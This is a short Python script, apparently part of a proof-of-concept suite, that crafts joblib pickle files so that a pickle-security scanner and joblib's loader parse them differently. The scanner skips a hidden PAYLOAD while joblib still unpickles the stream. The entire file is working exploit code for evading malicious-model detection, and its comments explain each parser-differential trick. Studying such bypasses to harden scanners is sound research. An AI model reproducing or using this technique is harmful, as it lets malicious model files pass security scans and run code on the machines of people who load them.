from common import *
# Instance attributes shadow NumpyArrayWrapper's methods (plain functions are non-data
# descriptors, so the instance __dict__ wins): joblib calls
# array_wrapper.read(unpickler, ensure_native_byte_order) and
# self.safe_get_numpy_array_alignment_bytes() by ordinary attribute lookup.
N = 30
tail = b'0' + PAYLOAD + b'.'
# b9: BUILD state {'read': operator.is_}: joblib calls operator.is_(unpickler, False) -> False
# and reads no array bytes; the scanner skips len(tail) bytes (the payload). A first genuine
# 5-byte array (a BINSTRING header) keeps the plain pass off the payload.
rest = b'0' + wrapper6(len(tail)) + b'}' + U('read') + G('operator','is_') + b'sb' + tail + b'0N.'
run('b9.joblib', b'\x80\x02' + wrapper6(5) + b'}b' + T(len(rest)-1) + rest)
# b9b: {'safe_get_numpy_array_alignment_bytes': collections.OrderedDict}: the call returns
# OrderedDict() (not None), so joblib reads a padding byte (0x54) and 84 bytes of padding;
# the scanner (alignment attribute None) reads none.
P = 0x54
hdr = b'\x80\x02' + wrapper6(N) + b'}' + U('safe_get_numpy_array_alignment_bytes') + G('collections','OrderedDict') + b'sb'
run('b9b.joblib', hdr + region(1+P+N, [0, N]))
